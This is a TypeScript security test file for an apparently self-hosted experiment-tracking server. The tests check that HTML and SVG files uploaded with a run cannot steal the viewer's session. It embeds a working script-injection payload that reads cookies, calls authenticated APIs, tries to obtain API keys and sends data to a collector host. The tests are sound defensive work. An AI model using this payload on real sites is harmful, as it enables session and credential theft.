import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { crc32, deflateSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { browserProgram } from '../kit/browser.ts'
import { logRun } from '../kit/experiments.ts'
import { until } from '../kit/until.ts'
import { ask } from '../kit/wire.ts'
import { keyFor, openStation, type Station } from './station.ts'

/** Says in its title what it got hold of, when all attempts have ended. */
const thief = (collector: string) => `
  const found = []
  const attempts = [
    ['cookie', async () => document.cookie],
    ['storage', async () => localStorage.length + ' kept'],
    ['api', async () => (await fetch('/api/me', { credentials: 'include' })).status],
    ['graphql', async () => (await fetch('/graphql', { method: 'POST', credentials: 'include', body: '{}' })).status],
    ['collector', async () => (await fetch('${collector}/fetched')).status],
    ['beacon', async () => void navigator.sendBeacon('${collector}/beacon', 'x')],
    ['picture', () => new Promise((resolve, reject) => Object.assign(new Image(), { onload: resolve, onerror: reject, src: '${collector}/picture' }))],
    ['parent', async () => parent !== window && parent.document.title],
    ['popup', async () => window.open('/settings/keys')?.document.title],
  ]
  Promise.all(attempts.map(async ([name, attempt]) => {
    try { const value = await attempt(); if (value) found.push(name + ': ' + value) } catch {}
  })).then(() => {
    const form = document.createElement('form')
    Object.assign(form, { method: 'post', action: '/api/keys' })
    document.documentElement.append(form)
    form.submit?.()
    if (top !== window) try { top.location.href = '${collector}/navigated' } catch {}
    setTimeout(() => parent.postMessage('found ' + JSON.stringify(found), '*'), 300)
    document.documentElement.setAttribute('data-found', JSON.stringify(found))
  })`

const html = (collector: string) => `<!doctype html><title>working</title><body><script>${thief(collector)}</script>`
const svg = (collector: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script><![CDATA[${thief(collector)}]]></script></svg>`

describe.skipIf(!browserProgram)('a page that a run uploaded', { timeout: 90_000 }, () => {
  let station: Station
  let collector: Server
  let signedInAs: Awaited<ReturnType<Awaited<ReturnType<Station['signedIn']>>['context']['storageState']>>
  let addresses: Record<string, string>
  const collected: string[] = []
  beforeAll(async () => {
    collector = createServer((request, reply) => {
      collected.push(request.url ?? '')
      reply.writeHead(200, { 'access-control-allow-origin': '*' }).end()
    })
    await new Promise<void>((resolve) => collector.listen(0, '127.0.0.1', resolve))
    const elsewhere = `http://127.0.0.1:${(collector.address() as AddressInfo).port}`
    station = await openStation()
    const visitor = await station.signedIn('ada')
    const apiKey = await keyFor(visitor.page)
    signedInAs = await visitor.context.storageState()
    await visitor.close()
    await logRun(
      { url: station.server.url, apiKey, entity: 'ada', project: 'pages' },
      {
        name: 'one',
        history: [{ loss: 1 }],
        files: { 'page.html': html(elsewhere), 'picture.svg': svg(elsewhere), 'square.png': png(8) },
        exitCode: 0,
      },
    )
    const query =
      '{ project(name: "pages", entityName: "ada") { run(name: "one") { files { edges { node { name directUrl } } } } } }'
    const { data } = await ask(station.server, apiKey, query)
    addresses = Object.fromEntries(
      data.project.run.files.edges.map(({ node }: { node: { name: string; directUrl: string } }) => [
        node.name,
        node.directUrl,
      ]),
    )
  })
  afterAll(async () => {
    await station?.close()
    await new Promise((resolve) => collector.close(resolve).closeAllConnections())
  })

  test.each(['page.html', 'picture.svg'])('finds no cookie and reaches nothing: %s', async (name) => {
    const { page, close } = await station.visit({ signedInAs })
    try {
      // The control: this browser is signed in here.
      await page.goto('/')
      expect(await page.evaluate("fetch('/api/me').then(({ status }) => status)")).toBe(200)
      await page.goto(addresses[name]!)
      await until(async () => (await page.getAttribute(':root', 'data-found')) !== null)
      expect(await page.getAttribute(':root', 'data-found')).toBe('[]')
      await page.waitForTimeout(500)
      expect(page.url()).toBe(addresses[name])
      expect(collected).toEqual([])
    } finally {
      await close()
    }
  })

  test('finds no cookie and reaches nothing in a frame of ours either', async () => {
    const { page, close } = await station.visit({ signedInAs })
    try {
      await page.goto('/')
      const found = await page.evaluate(
        `new Promise((resolve) => {
          addEventListener('message', ({ data, origin }) => resolve([origin, data]))
          document.body.append(Object.assign(document.createElement('iframe'), { src: ${JSON.stringify(addresses['page.html'])} }))
        })`,
      )
      expect(found).toEqual(['null', 'found []'])
      expect(page.url()).toBe(`${station.server.url}/`)
      expect(collected).toEqual([])
    } finally {
      await close()
    }
  })

  test('a picture that a run uploaded is shown in its list of files', async () => {
    const { page, close, problems } = await station.visit({ signedInAs })
    try {
      await page.goto('/ada/pages/runs/one/files')
      await until(async () => page.evaluate('[...document.images].some(({ naturalWidth }) => naturalWidth === 8)'))
      expect(problems).toEqual([])
    } finally {
      await close()
    }
  })
})

/** A grey square. */
function png(side: number): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type), data])
    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)]
    length.writeUInt32BE(data.length)
    sum.writeUInt32BE(crc32(body))
    return Buffer.concat([length, body, sum])
  }
  const header = Buffer.alloc(13)
  header.writeUInt32BE(side, 0)
  header.writeUInt32BE(side, 4)
  header[8] = 8
  const rows = Buffer.alloc(side * (side + 1), 128)
  for (let row = 0; row < side; row++) rows[row * (side + 1)] = 0
  const signature = Buffer.from([137, 80, 78, 71, 13, 10, 26, 10])
  return Buffer.concat([
    signature,
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ])
}
